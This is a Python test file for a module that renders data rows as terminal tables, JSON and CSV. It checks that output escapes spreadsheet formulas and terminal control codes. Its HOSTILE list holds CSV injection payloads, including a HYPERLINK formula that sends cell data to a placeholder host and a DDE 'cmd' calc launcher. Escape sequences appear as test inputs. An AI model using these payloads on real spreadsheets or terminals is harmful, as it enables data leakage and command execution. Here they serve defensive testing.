"""Rows as tables, JSON and CSV."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pyarrow as pa
import pytest

from fleetlake.serve.output import FORMULA, NUMBER, Form, cell, plain, printable, write_json, write_rows

AT = datetime(2026, 1, 1, 8, 30, 0, 250_000, tzinfo=UTC)
ROWS = pa.table(
    {"name": ["a", "b, c"], "at": pa.array([AT, None], pa.timestamp("us", tz="UTC")), "km": [1.5, None], "blob": [b"\xff", b"x"]}
)


def written(rows: pa.Table, form: Form, **more: Any) -> str:
    out = io.StringIO()
    write_rows(rows, form, out=out, **more)
    return out.getvalue()


def test_json() -> None:
    assert json.loads(written(ROWS, Form.JSON)) == [
        {"name": "a", "at": "2026-01-01T08:30:00.250000Z", "km": 1.5, "blob": "/w=="},
        {"name": "b, c", "at": None, "km": None, "blob": "x"},
    ]
    assert json.loads(written(ROWS.slice(0, 0), Form.JSON)) == []


def test_json_keeps_columns_of_one_name() -> None:
    twice = pa.Table.from_arrays([pa.array([1]), pa.array([2])], names=["x", "x"])
    assert json.loads(written(twice, Form.JSON)) == [{"x": 1, "x_1": 2}]


def test_csv() -> None:
    assert list(csv.reader(io.StringIO(written(ROWS, Form.CSV)))) == [
        ["name", "at", "km", "blob"],
        ["a", "2026-01-01T08:30:00.250000Z", "1.5", "/w=="],
        ["b, c", "", "", "x"],
    ]


HOSTILE = [
    '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "'=1", "''=1",
]  # fmt: skip
KEPT = ["'tis", "-0.5", "+447700900123", "-1e-9", "a=b", "", " =1", "x\x1b[31m", "\x9b31m"]


def test_csv_holds_no_formula_and_every_text_can_be_had_back() -> None:
    rows = pa.table({"=1": HOSTILE + KEPT, "n": pa.array([-1.5] * len(HOSTILE + KEPT))})
    (head, *cells) = csv.reader(io.StringIO(written(rows, Form.CSV), newline=""))
    assert head == ["'=1", "n"]
    assert {number for _, number in cells} == {"-1.5"}
    texts = [text for text, _ in cells]
    assert [text for text in texts if text[:1] in tuple("=+-@\t\r\n\uff1d") and not NUMBER.fullmatch(text)] == []
    assert texts[len(HOSTILE) :] == KEPT
    assert [text[1:] if FORMULA.match(text) and text[0] == "'" else text for text in texts] == HOSTILE + KEPT


@pytest.mark.parametrize("form", [Form.CSV, Form.JSON, Form.TABLE])
def test_nothing_controls_a_terminal(form: Form) -> None:
    marks = "\ufff9\ufffb\U000e0041\u180e\u2029\u061c\u200b\u200f\u2028\u202e\u2066\ufeff"
    text = "".join(map(chr, range(0xA0))) + marks + "\x1b]0;owned\x07"
    out = Terminal()
    write_rows(pa.table({"\x1b[2J" + text: [text], "b": [text.encode()]}), form, out=out, title="x")
    said = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # what rich puts around a title
    assert [char for char in said if not char.isprintable() and char != "\n"] == []
    if form is Form.JSON:
        assert json.loads(said)[0]["b"] == text


def test_a_json_document_has_no_controls_either() -> None:
    out = io.StringIO()
    write_json({"a": "\x9b31m\u202eé"}, out)
    assert out.getvalue() == '{\n  "a": "\\u009b31m\\u202eé"\n}\n'
    out = io.StringIO()
    write_json(["a\x7f", "\ud800 \U000e0041é"], out)
    assert out.getvalue() == '[\n  "a\\u007f",\n  "\\ud800 \\udb40\\udc41é"\n]\n'


def test_a_table_off_the_terminal_is_aligned() -> None:
    rows = pa.table({"device": ["v1", "longer"], "km": [1.5, 200.25]})
    assert written(rows, Form.TABLE) == "device      km\nv1         1.5\nlonger  200.25\n"


def test_a_tables_places_are_exact_to_a_decimetre() -> None:
    rows = pa.table({"latitude": [51.5073512], "start_longitude": [-0.1], "lon": [1.0], "km": [1.23456]})
    assert written(rows, Form.TABLE).split() == [*rows.column_names, "51.507351", "-0.100000", "1.000000", "1.235"]
    assert json.loads(written(rows, Form.JSON))[0]["latitude"] == 51.5073512


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_table_in_a_terminal() -> None:
    out = Terminal()
    write_rows(pa.table({"payload": ["[red]x[/red]"]}), Form.TABLE, out=out, title="Records")
    assert "[red]x[/red]" in out.getvalue(), "a payload is never markup"
    assert "Records" in out.getvalue()


def test_rows_too_wide_for_a_terminal_get_a_line_a_value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    out = Terminal()
    write_rows(pa.table({f"column_{number:02}": ["x" * 10] for number in range(10)}), Form.TABLE, out=out)
    assert out.getvalue().splitlines()[:3] == ["row 1", "  column_00  xxxxxxxxxx", "  column_01  xxxxxxxxxx"]


def test_ids_are_not_broken_in_a_narrow_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    out = Terminal()
    write_rows(pa.table({"id": ["6233368731974675353"], "text": ["several words that have to be folded"]}), Form.TABLE, out=out)
    assert "6233368731974675353" in out.getvalue()


@pytest.mark.parametrize(
    ("form", "limit", "shown"),
    [(Form.TABLE, None, 50), (Form.TABLE, 0, 60), (Form.TABLE, 2, 2), (Form.CSV, None, 60), (Form.CSV, 2, 2)],
)
def test_limit(form: Form, limit: int | None, shown: int) -> None:
    text = written(pa.table({"x": range(60)}), form, limit=limit)
    note = "--limit 0 shows all"
    assert (note in text) == (form is Form.TABLE and shown < 60)
    assert len([line for line in text.splitlines() if note not in line]) == shown + 1


def test_text_can_not_move_the_cursor() -> None:
    assert printable("a\x1b[2Jb\nc\u202e") == "a\\x1b[2Jb\\nc\\u202e"
    assert printable("x" * 100) == "x" * 79 + "…"
    assert cell(b"\xff{\r\n") == "\\xff{\\r\\n"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (float("nan"), None), (float("inf"), None), (Decimal("2.50"), 2.5), (Decimal("7"), 7), (date(2026, 1, 1), "2026-01-01"),
        ({"a": [AT]}, {"a": ["2026-01-01T08:30:00.250000Z"]}), (True, True), ("é", "é"),
    ],
)  # fmt: skip
def test_values_as_json_knows_them(value: Any, expected: Any) -> None:
    assert plain(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [(None, ""), (True, "yes"), (200.25, "200.25"), (0.0, "0"), (1e-9, "1e-09"), (3, "3"), (100.0, "100"), (1234567.0, "1234567"),
     (AT, "2026-01-01 08:30:00.250Z"), ({"a": 1}, '{"a": 1}')],
)  # fmt: skip
def test_values_as_a_table_shows_them(value: Any, expected: str) -> None:
    assert cell(value) == expected
